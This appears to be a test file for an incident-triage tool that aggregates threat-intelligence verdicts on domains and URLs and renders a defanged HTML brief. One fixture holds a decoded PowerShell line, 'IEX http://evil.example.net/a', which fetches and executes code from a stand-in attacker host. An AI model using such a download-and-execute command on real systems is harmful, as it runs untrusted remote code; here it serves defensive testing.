import { describe, expect, it } from 'vitest';
import { assess, incidentVerdict, ranked } from '../../../shared/incidents/assess.ts';
import { compose } from '../../../shared/incidents/brief.ts';
import { html } from '../../../shared/incidents/html.ts';
import { Observables } from '../../../shared/incidents/observed.ts';
import { briefOf } from '../../../shared/incidents/summary.ts';
import type { Evidence } from '../../../shared/verdicts/fuse.ts';

const observed = (value: string) => ({ value, type: 'dns' as const, from: ['Host FIN'], via: [] });
const bad = assess(observed('evil.example.net'), [{ source: 'URLhaus', severity: 'high' }], ['age 3 days'], {});
const fine = assess(observed('good.example.org'), (['OTX', 'VirusTotal'] as const).map((source): Evidence => ({ source, severity: 'information' })), [], {});
const dark = assess(observed('dark.example.com'), [{ source: 'OTX', severity: 'unknown', detail: 'quota used up' }], [], {});

describe('observables of an incident', () => {
  it('keeps each once, with every place, and forgets the layers of one that stands in the open', () => {
    const all = new Observables();
    all.add('Evil.example.net', 'dns', 'Process', ['base64']);
    all.add('evil.example.net', 'dns', 'Dns');
    all.add('https://x.example/A', 'url', 'Url');
    all.add('https://x.example/a', 'url', 'Url');
    expect(all.all()).toEqual([
      { value: 'Evil.example.net', type: 'dns', from: ['Process', 'Dns'], via: [] },
      { value: 'https://x.example/A', type: 'url', from: ['Url'], via: [] },
      { value: 'https://x.example/a', type: 'url', from: ['Url'], via: [] },
    ]);
  });
});

describe('the verdict of an incident', () => {
  it.each([
    ['the worst decides', [fine, bad, dark], 'high', /^Malicious: 1 of 3 observables, 1 could not be judged\.$/],
    ['nothing against any', [fine], 'information', /^Nothing found against 1 of 1 observable\.$/],
    ['nobody answered', [dark], 'unknown', /Not checked is not clean/],
    ['no observables at all', [], 'unknown', /names no observable/],
  ] as const)('%s', (_, rows, severity, headline) => {
    const verdict = incidentVerdict(rows);
    expect(verdict.Severity).toBe(severity);
    expect(verdict.Headline).toMatch(headline);
  });

  it('ranks the worst first and the unjudged last', () => {
    expect(ranked([dark, fine, bad]).map(({ Observable }) => Observable)).toEqual(['evil.example.net', 'good.example.org', 'dark.example.com']);
  });
});

describe('the contents of the brief', () => {
  const text = compose(
    briefOf({
      title: 'Beacon <from> FIN', verdict: incidentVerdict([bad, fine, dark]), observables: ranked([bad, fine, dark]),
      decoded: [{ From: 'Process', Layers: ['powershell', 'utf-16'], Text: 'IEX http://evil.example.net/a' }],
      entities: [{ Type: 'host', Name: 'FIN' }, { Type: 'host', Name: 'FIN' }], problems: [{ code: 'x', about: 'OTX', detail: 'quota used up' }],
      caseFile: 'case.json', run: 'run-1', time: '2026-06-15T12:00:00Z', attributions: [],
    }),
    html,
  );

  it('says the verdict, why, what was hidden and what was not available', () => {
    for (const part of ['Malicious: 1 of 3', 'evil[.]example[.]net', 'URLhaus: malicious', 'powershell &gt; utf-16', 'quota used up', 'Beacon &lt;from&gt; FIN', '<td>FIN</td>'])
      expect(text).toContain(part);
  });

  it('holds nothing that a client would turn into a link', () => {
    expect(text).not.toMatch(/https?:\/\//);
  });
});
